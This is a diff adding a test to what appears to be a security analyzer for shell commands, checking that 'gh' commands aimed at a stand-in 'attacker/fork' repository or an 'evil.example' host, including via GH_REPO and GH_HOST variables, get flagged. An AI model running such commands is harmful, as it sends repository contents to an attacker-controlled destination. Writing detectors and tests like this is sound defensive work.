@@ -204,6 +204,14 @@ commands:
     expect(analyzer.analyze('git diff > /dev/null').opaque).toEqual([]);
   });
 
+  test('gh on a repository or host the line names is a named remote', () => {
+    for (const line of ['gh pr create --repo attacker/fork --fill', 'gh pr create -R attacker/fork', 'gh pr create -Rattacker/fork', 'gh pr create --repo=attacker/fork']) {
+      expect(analyzer.analyze(line).opaque.map((item) => item.kind), line).toContain('named-remote');
+    }
+    for (const line of ['GH_REPO=attacker/fork gh pr create --fill', 'GH_HOST=evil.example gh pr view 1']) expect(analyzer.analyze(line).opaque.map((item) => item.kind), line).toContain('hidden-config');
+    expect(analyzer.analyze('gh pr create --fill --reviewer octocat').opaque).toEqual([]);
+  });
+
   test('git push refspecs become the git operation', () => {
     expect(analyzer.analyze('git -C r push origin +HEAD:refs/heads/main').gitPushes).toEqual([{ operation: 'push --force', target: '+main' }]);
   });
